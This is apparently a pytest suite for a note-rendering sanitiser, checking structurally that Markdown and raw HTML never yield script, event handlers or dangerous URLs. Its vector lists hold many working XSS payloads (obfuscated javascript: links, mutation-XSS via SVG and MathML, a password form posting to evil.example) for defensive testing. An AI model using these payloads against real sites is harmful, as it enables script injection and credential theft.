"""Markdown → sanitised HTML: known XSS vectors never survive, ordinary notes look right.

Every hostile case is checked structurally: the output is parsed and each element, attribute
and URL is held against an allowlist written out here (not imported), so widening the
allowlist in the code makes these tests fail until it is widened here on purpose.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workshop.rendering import _sanitise, render_markdown, visible_text

EXPECTED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}
EXPECTED_ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"},
                       "th": {"align"}, "td": {"align"}}
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background",
                  "poster", "srcset", "lowsrc", "dynsrc", "codebase", "cite"}
# What the URL standard does before it looks for a scheme: trim leading and trailing C0
# controls and spaces, and remove ASCII tab and newline anywhere.
_TRIMMED = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


class _Audit(HTMLParser):
    """Records everything in HTML that the allowlist does not allow."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check an element, its attributes and its URLs."""
        if tag not in EXPECTED_TAGS:
            self.violations.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.violations.append(f"attribute {name} on <{tag}>")
            elif name not in EXPECTED_ATTRIBUTES.get(tag, set()):
                self.violations.append(f"unexpected attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                url = _TAB_OR_NEWLINE.sub("", _TRIMMED.sub("", value)).lower()
                scheme = _SCHEME.match(url)
                if scheme and scheme.group(1) not in SAFE_SCHEMES:
                    self.violations.append(f"{name}={value!r} on <{tag}>")
            if tag == "a" and name == "rel" and value != "noopener noreferrer nofollow":
                self.violations.append(f"rel={value!r}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag: str) -> None:
        """An end tag of a forbidden element is as bad as its start tag."""
        if tag not in EXPECTED_TAGS:
            self.violations.append(f"end tag </{tag}>")

    def handle_comment(self, data: str) -> None:
        """Comments are stripped, so none may remain."""
        self.violations.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        """No doctype or other declarations."""
        self.violations.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        """No CDATA sections."""
        self.violations.append(f"CDATA/unknown declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        """No processing instructions."""
        self.violations.append(f"processing instruction {data!r}")


def violations(html: str) -> list[str]:
    """What in this HTML breaks the allowlist (empty when it is safe)."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.violations


# Grouped after the classes of the OWASP XSS filter evasion cheat sheet.
HTML_VECTORS = [
    # script tags, every casing and shape
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script src=//evil.example/x.js?<b>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=\"alert(1)\"/>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<p title=\"x\" onfocus=alert(1) autofocus tabindex=0>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    # SVG and MathML, including mutation XSS
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    # javascript:, vbscript:, data: URLs, obfuscated
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"x\" onclick=\"alert(1)\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\"><img lowsrc=\"javascript:alert(1)\">",
    "<bgsound src=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"javascript:alert(1)\">x</td>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    # embedding, forms, navigation
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.html\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
    "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=data:text/html,<script>alert(1)</script>\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<applet code=x></applet>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    # styles
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<p style=\"behavior: url(x.htc)\">x</p>",
    "<p style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</p>",
    "<span style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</span>",
    # attribute breaking: quotes and backticks
    "<a href=\"https://ok.example\" title='x\" onmouseover=\"alert(1)'>x</a>",
    "<a title=\"x` onmouseover=`alert(1)`\" href=\"https://ok.example\">x</a>",
    "<a href='https://ok.example' title=\"\"\"\" onclick=alert(1)>x</a>",
    "<p title=\"a\"onmouseover=alert(1)//\">x</p>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    # comments, CDATA, conditional comments, declarations
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<? echo('<script>alert(1)</script>'); ?>",
    # unclosed, nested, malformed
    "<a href=\"javascript:alert(1)\"",
    "<img src=x onerror=alert(1)//",
    "<div><div><div onclick=alert(1)>",
    "<</p>iframe src=javascript:alert(1)//<</p>/iframe>",
    "<p><a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">x</a></a></p>",
    "<a href=\"https://ok.example\" rel=\"opener\">x</a>",
    "<a href=\"https://ok.example\" target=\"_blank\">x</a>",
    "<p id=\"x\" class=\"admin\" name=\"x\">clobbering</p>",
    "<img src=\"https://tracker.example/pixel.gif\">",
]

MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](jav\tascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](javascript:alert(1) \"title\")",
    "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example\" onmouseover=\"alert(1))",
    "[x](https://ok.example 'x' onclick='alert(1)')",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://ok.example/x.png)",
    "![x](https://ok.example/x.png\" onerror=\"alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "[x][ref]\n\n[ref]: <javascript:alert(1)> \"title\"",
    "![x][img]\n\n[img]: javascript:alert(1)",
    "[ref]\n\n[ref]: data:text/html;base64,PHNjcmlwdD4=",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "<mailto:x@example.com?body=<script>alert(1)</script>>",
    "```\n<script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <svg onload=alert(1)>",
    "*<iframe src=javascript:alert(1)>*",
    "**[x](javascript:alert(1))**",
    "[x](javascript:alert(1)){: onclick=\"alert(1)\" }",
    "paragraph\n{: style=\"color:red\" onclick=\"alert(1)\" }",
    "<div markdown=\"1\"><script>alert(1)</script></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<a href=\"https://ok.example\">ok</a> <a href=\"javascript:alert(1)\">bad</a>",
]


@pytest.mark.parametrize("vector", HTML_VECTORS + MARKDOWN_VECTORS)
def test_a_known_xss_vector_in_a_note_renders_harmlessly(vector):
    assert violations(render_markdown(vector)) == []


@pytest.mark.parametrize("vector", HTML_VECTORS + MARKDOWN_VECTORS)
def test_the_sanitiser_alone_stops_known_vectors_as_raw_html(vector):
    # Defence in depth: even if raw HTML got past the Markdown layer, nh3 would stop it.
    assert violations(_sanitise(vector)) == []


def test_the_audit_itself_spots_the_dangerous_things():
    assert violations("<p onclick=x>a</p>") == ["attribute onclick on <p>"]
    assert violations('<a href="jav&#x09;ascript:alert(1)">x</a>')
    assert violations("<script>x</script>")
    assert violations("<p><!-- c --></p>")
    assert violations('<a href="https://ok.example" rel="noopener noreferrer nofollow">') == []


# ---- raw HTML is shown as text -------------------------------------------------------------

def test_raw_html_in_a_note_is_shown_as_text():
    html = render_markdown("Say <b>hi</b> to <script>alert(1)</script>")
    assert html == "<p>Say &lt;b&gt;hi&lt;/b&gt; to &lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_a_block_of_raw_html_is_shown_as_text():
    html = render_markdown('<div onmouseover="alert(1)">\nhello\n</div>')
    assert "<div" not in html
    assert "&lt;div onmouseover=" in html


def test_a_comment_is_shown_as_text_not_hidden():
    assert render_markdown("a <!-- hidden --> b") == "<p>a &lt;!-- hidden --&gt; b</p>"


def test_an_autolink_with_a_dangerous_scheme_stays_text():
    assert render_markdown("<javascript:alert(1)>") == "<p>&lt;javascript:alert(1)&gt;</p>"


def test_a_link_with_a_dangerous_scheme_keeps_its_text_but_loses_its_href():
    html = render_markdown("[click me](javascript:alert(1))")
    assert html == '<p><a rel="noopener noreferrer nofollow">click me</a></p>'


def test_control_characters_are_dropped_before_rendering():
    assert render_markdown("a\x00b\x02c\x03d\x7fe") == "<p>abcde</p>"


# ---- what a note may look like ---------------------------------------------------------------

def test_headings_and_emphasis():
    # A note's outline continues below the reader's own h3 title.
    html = render_markdown("# Interview with Anna\n\n## Goals\n\n*quick* and **cheap**, `code`")
    assert html == ("<h4>Interview with Anna</h4>\n<h5>Goals</h5>\n"
                    "<p><em>quick</em> and <strong>cheap</strong>, <code>code</code></p>")
    assert render_markdown("### a\n\n###### b") == "<h6>a</h6>\n<h6>b</h6>"


def test_lists_keep_their_numbering():
    assert render_markdown("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"
    assert render_markdown("3. c\n4. d") == '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'


def test_tables_align_with_an_attribute_not_a_style():
    html = render_markdown("| Q | n |\n|:--|--:|\n| Price | 12 |")
    assert '<th align="left">Q</th>' in html
    assert '<td align="right">12</td>' in html
    assert "style" not in html


def test_fenced_code_is_escaped_and_kept():
    html = render_markdown("```\nif a < b:\n    print('<hi>')\n```")
    assert html == "<pre><code>if a &lt; b:\n    print('&lt;hi&gt;')\n</code></pre>"


def test_blockquotes_and_rules():
    assert render_markdown("> she said\n\n---") == (
        "<blockquote>\n<p>she said</p>\n</blockquote>\n<hr>")


def test_links_get_rel_noopener_noreferrer_nofollow():
    html = render_markdown('[report](https://example.org/r "The report")')
    assert html == ('<p><a href="https://example.org/r" title="The report" '
                    'rel="noopener noreferrer nofollow">report</a></p>')


def test_mail_links_and_autolinks_work():
    assert 'href="mailto:anna@example.org"' in render_markdown("<anna@example.org>")
    assert 'href="https://example.org"' in render_markdown("<https://example.org>")


def test_relative_and_fragment_links_are_kept():
    html = render_markdown("[a](/notes/1) [b](#goals)")
    assert 'href="/notes/1"' in html
    assert 'href="#goals"' in html


def test_an_image_becomes_a_link_to_it_so_nothing_is_fetched_on_sight():
    html = render_markdown("![Checkout screen](https://example.org/s.png)")
    assert html == ('<p><a href="https://example.org/s.png" rel="noopener noreferrer nofollow">'
                    "Checkout screen</a></p>")


def test_a_plain_sentence_round_trips():
    assert render_markdown("Anna pays by invoice, never by card.") == (
        "<p>Anna pays by invoice, never by card.</p>")


def test_special_characters_are_escaped_once():
    assert render_markdown("Q&A: 3 < 4 > 2") == "<p>Q&amp;A: 3 &lt; 4 &gt; 2</p>"


def test_empty_text_renders_as_nothing():
    assert render_markdown("") == ""


def plain_text(markdown_text: str) -> str:
    """The text a reader sees in the rendered Markdown, white space collapsed."""
    return " ".join(visible_text(render_markdown(markdown_text)).split())


def test_plain_text_is_what_a_reader_sees():
    assert plain_text("# Goals\n\n*Pay* by **invoice** & <b>card</b>") == (
        "Goals Pay by invoice & <b>card</b>")


@pytest.mark.parametrize(("markdown_text", "seen"), [
    # Inline formatting adds no space: the comma stays against the bold word.
    ("She **pays every bill on her phone**, usually.",
     "She pays every bill on her phone, usually."),
    ("*Very* slow; *sadly*.", "Very slow; sadly."),
    ("Read [the report](https://example.org)'s summary.", "Read the report's summary."),
    ("A `code`-like word", "A code-like word"),
    ("un**believ**able", "unbelievable"),
    # Blocks are separated: list items, headings and paragraphs never run together.
    ("- never opens letters\n- wants a push", "never opens letters wants a push"),
    ("# Goals\nPay", "Goals Pay"),
    ("one\n\ntwo", "one two"),
    ("| a | b |\n|---|---|\n| c | d |", "a b c d"),
])
def test_plain_text_joins_inline_pieces_and_separates_blocks(markdown_text, seen):
    assert plain_text(markdown_text) == seen


def test_visible_text_puts_white_space_only_at_block_boundaries():
    html = "<p>pays <strong>every</strong>, bill</p><ul><li>one</li><li>two</li></ul>"
    text = visible_text(html)
    assert "pays every, bill" in text
    assert "one\n" in text and "onetwo" not in text


# ---- properties ------------------------------------------------------------------------------

_FRAGMENTS = [
    "<", ">", "\"", "'", "`", "=", "/", "&", "#", ";", ":", "(", ")", "[", "]", "!", "\n", "\t",
    " ", "*", "_", "|", "-", "\\", "&#", "&#x", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>",
    "<script>", "</script>", "<img src=x", " onerror=", "alert(1)", "<svg", "<math>", "<style>",
    "<iframe", "<a href=", "javascript:", "JaVaScRiPt:", "jav&#x09;ascript:", "&#106;",
    "vbscript:", "data:text/html,", "[x](", "![x](", "]: ", "<javascript:", "```", "    ",
    "style=", "expression(", "url(", "<noscript>", "<p title=\"", "<base href=", "<form",
    "<meta http-equiv=refresh", "<object", "<embed", "{: ", "markdown=\"1\"", "\x00", "\x02",
    "\x03", "wzxhzdk:", "https://ok.example", "mailto:", "<mglyph>", "<table>",
]
hostile_text = st.lists(
    st.one_of(st.sampled_from(_FRAGMENTS), st.text(max_size=5)), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(hostile_text)
def test_no_text_renders_to_anything_outside_the_allowlist(text):
    assert violations(render_markdown(text)) == []


@settings(max_examples=200, deadline=None)
@given(hostile_text)
def test_the_sanitiser_alone_never_lets_anything_outside_the_allowlist_through(text):
    assert violations(_sanitise(text)) == []
